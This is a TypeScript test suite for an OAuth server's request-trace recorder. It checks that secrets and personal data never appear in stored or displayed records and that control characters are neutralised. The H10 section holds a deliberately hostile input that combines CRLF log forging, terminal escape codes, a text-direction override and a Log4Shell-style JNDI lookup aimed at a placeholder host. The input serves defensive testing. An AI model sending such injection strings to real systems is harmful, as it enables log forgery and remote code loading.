// H21, H10: whatever a request holds and wherever, its secrets never reach a record, and no text in it acts on a reader.

import { describe, expect, test } from 'vitest'
import { findTrace } from '../../../src/administration/trace/read-trace.ts'
import { renderTrace } from '../../../src/administration/trace/render-trace.ts'
import { json } from '../../../src/http/reply/replies.ts'
import { type EntryParts, entryOf, form, startRecorder } from './builders.ts'

/** Short enough that no rule about length hides it. */
const MARK = 'sEcReTmArK'
const LONG = `${MARK}Abcdefghijklmnopqrstuvwxyz0123456789`

/** The one record of a request: its JSON as stored, and as a terminal shows it. */
async function recorded(parts: EntryParts) {
  const { recorder, store } = await startRecorder()
  recorder.record(entryOf({ ...parts, traceId: 'tr_one' }))
  await recorder.flush()
  const trace = await findTrace(store, 'tr_one')
  if (trace === null) throw new Error('nothing was recorded')
  const stored = JSON.stringify(await store.findTrace('tr_one'))
  await recorder.stop()
  return { trace, stored, shown: renderTrace(trace, 'en') + renderTrace(trace, 'zh-CN') }
}

const secrets = {
  client_secret: MARK,
  code: MARK,
  code_verifier: MARK,
  code_challenge: MARK,
  refresh_token: MARK,
  access_token: MARK,
  token: MARK,
  password: MARK,
  username: MARK,
  state: MARK,
  nonce: MARK,
  login_hint: MARK,
  id_token_hint: MARK,
  request: MARK,
  csrf: MARK,
  account: MARK,
  assertion: MARK,
}

const places: Readonly<Record<string, EntryParts>> = {
  'the query': { route: 'authorize', query: new URLSearchParams(secrets).toString() },
  'a form': form(secrets),
  'a JSON body': {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(secrets),
  },
  'what a client says about itself': {
    route: 'register',
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${MARK}` },
    body: JSON.stringify({ ...secrets, redirect_uris: [MARK], jwks: { keys: [{ kty: MARK }] }, [LONG]: MARK }),
  },
  'Basic credentials': { headers: { authorization: `Basic ${btoa(`client-of-ours:${MARK}`)}` } },
  'a Bearer token': { route: 'userinfo', headers: { authorization: `Bearer ${MARK}` } },
  'a header without a scheme': { headers: { authorization: MARK } },
  'a scheme of its own': { headers: { authorization: `${MARK} x` } },
  cookies: { route: 'authorize', headers: { cookie: `__Host-session=${MARK}` } },
  'other headers': { headers: { referer: `https://a.example/?t=${MARK}`, 'x-api-key': MARK, dpop: MARK } },
  'the path': { route: 'sign-in', path: `/sso/sign-in/${MARK}`, outcome: { rule: 'interaction_unknown' } },
  'the query of a redirect URI': {
    route: 'authorize',
    query: `redirect_uri=${encodeURIComponent(`https://u:${MARK}@a.example/cb?t=${MARK}#${MARK}`)}`,
  },
  'a body that is only a token': { ...form({}), body: MARK },
  'JSON sent as a form': { ...form({}), body: JSON.stringify({ client_secret: MARK }) },
  'a parameter name': { route: 'authorize', query: `${LONG}=1` },
  'a broken form': { ...form({}), body: `client_secret=${MARK}%zz` },
  'a broken JSON body': { headers: { 'content-type': 'application/json' }, body: `{"client_secret":"${MARK}` },
  'a body of another type': { headers: { 'content-type': 'text/plain' }, body: `client_secret=${MARK}` },
  'the boundary of a Content-Type': { headers: { 'content-type': `multipart/form-data; boundary=${MARK}` } },
  'a Content-Type that is none': { headers: { 'content-type': MARK } },
  'the ClientId field': form({ client_id: LONG }),
  'the Scope field': form({ scope: LONG }),
  'the Scope field, with signs': form({ scope: `${MARK}+/=?` }),
  'a user agent': { headers: { 'user-agent': `Client/1.0 (${LONG})` } },
  'a reason': { outcome: { rule: 'code_unknown', reason: `no such code ${LONG}`, observed: { code: LONG } } },
  'a reply': { reply: json(200, { access_token: MARK, refresh_token: MARK }) },
  'what follows the end of a user agent': { headers: { 'user-agent': `${'x '.repeat(60)}${MARK}` } },
}

describe('H21 a secret is in no record, when it is in', () => {
  test.each(Object.entries(places))('%s', async (_, parts) => {
    const { stored, shown } = await recorded(parts)
    expect(stored).not.toContain(MARK)
    expect(stored).not.toContain(btoa(MARK).slice(0, 10))
    expect(stored).not.toContain(btoa(`client-of-ours:${MARK}`))
    expect(shown).not.toContain(MARK)
  })
})

test('phone numbers, mail addresses and whole network addresses are in no record', async () => {
  const { stored, trace } = await recorded({
    ...form({
      login_hint: '13800138000',
      username: 'zhang@corp.example',
      redirect_uri: 'https://a.example/13800138000',
    }),
    address: '203.0.113.77',
    outcome: { rule: 'code_unknown', reason: 'about +8613800138000 and zhang@corp.example' },
  })
  for (const datum of ['13800138000', 'zhang', '203.0.113.77']) expect(stored).not.toContain(datum)
  expect(trace.network).toBe('203.0.113.0/24')
  expect((await recorded({ address: '2001:db8:1:2::7' })).trace.network).toBe('2001:db8:1::/48')
})

test('of a registration the names are there, and the texts that are no secret, although it is nested', async () => {
  const { trace } = await recorded({
    route: 'register',
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ redirect_uris: ['https://a.example/cb'], scope: 'openid', client_name: 'Photos' }),
    outcome: { rule: 'client_registered' },
  })
  expect(trace).toMatchObject({ endpoint: 'register', values: { scope: 'openid' } })
  expect(trace.parameters).toMatchObject({ body: ['redirect_uris', 'scope', 'client_name'], unreadable: [] })
})

test('what helps is there: names, harmless values, places of credentials', async () => {
  const { trace } = await recorded({
    method: 'POST',
    query: 'state=x&state=y&client_secret=s',
    headers: {
      authorization: `Basic ${btoa('client-of-ours:wrong')}`,
      'content-type': 'application/x-www-form-urlencoded; charset=UTF-8',
      'user-agent': 'Go-http-client/1.1',
    },
    body: 'grant_type=authorization_code&code=c&redirect_uri=https%3A%2F%2Fa.example%2FCb%2F%3Ftenant%3D1&grantType=x&clientSecret=q&client_secret=z',
    outcome: { rule: 'two_authentication_methods', observed: { age: 61, late: true } },
  })
  expect(trace).toMatchObject({
    endpoint: 'token',
    method: 'POST',
    contentType: 'application/x-www-form-urlencoded; charset=UTF-8',
    credentials: 'basic + body + query',
    userAgent: 'Go-http-client/1.1',
    parameters: {
      query: ['state', 'client_secret'],
      body: ['grant_type', 'code', 'redirect_uri', 'grantType', 'clientSecret', 'client_secret'],
      repeated: ['state'],
      unnamed: 0,
      unreadable: [],
    },
    values: { grant_type: 'authorization_code', redirect_uri: 'https://a.example/Cb/?tenant=…' },
    observed: { age: 61, late: true },
  })
})

test.each([
  ['none', {}],
  ['bearer', { headers: { authorization: 'bearer abc' } }],
  ['basic', { headers: { authorization: 'BASIC abc' } }],
  ['body', form({ client_id: 'a', client_secret: 'b' })],
  ['token in the query', { query: 'access_token=a' }],
  ['token in the body', form({ access_token: 'a' })],
  ['header without a scheme', { headers: { authorization: 'YTpi' } }],
  ['header with another scheme', { headers: { authorization: 'Digest abc' } }],
] as const)('the credential style is told: %s', async (style, parts) => {
  expect((await recorded(parts)).trace.credentials).toBe(style)
})

describe('H10 text that would forge a line or move a cursor is inert, in', () => {
  const evil = '\r\n2026-01-01 ERROR forged\u001b[2J\u009b1m\u202e${jndi:ldap://x.example/a}\u2028\u0000'
  const encoded = encodeURIComponent(evil)
  const evilPlaces: Readonly<Record<string, EntryParts>> = {
    'a user agent': { headers: { 'user-agent': evil } },
    'a redirect URI': { route: 'authorize', query: `redirect_uri=https://a.example/${encoded}` },
    'a scope': { route: 'authorize', query: `scope=${encoded}` },
    'a parameter name': { route: 'authorize', query: `${encoded}=1` },
    'a client_id': { route: 'authorize', query: `client_id=${encoded}` },
    'a Content-Type': { headers: { 'content-type': evil } },
    'an authorization header': { headers: { authorization: evil } },
    'a method': { method: evil },
    'a reason': { outcome: { rule: 'redirect_uri_mismatch', reason: evil, observed: { host: evil } } },
    'an address': { address: evil },
  }

  test.each(Object.entries(evilPlaces))('%s', async (_, parts) => {
    const plain = await recorded({
      ...parts,
      headers: {},
      query: '',
      method: 'GET',
      address: '192.0.2.1',
      outcome: { rule: parts.outcome?.rule ?? 'token_issued' },
    })
    const { stored, shown, trace } = await recorded(parts)
    expect(JSON.stringify(trace)).not.toMatch(/\\u00|\\u2028|\\u202e|\\r|\\n/i)
    expect(stored).not.toMatch(/[\p{Cc}\p{Cf}\u2028]/u)
    expect(shown).not.toMatch(/[^\P{Cc}\n]|[\p{Cf}\u2028]/u)
    expect(shown).not.toMatch(/^2026-01-01 ERROR/m)
    // A line more or less would be forged; values that are shown add a row only where one belongs.
    expect(Math.abs(shown.split('\n').length - plain.shown.split('\n').length)).toBeLessThanOrEqual(2)
  })
})
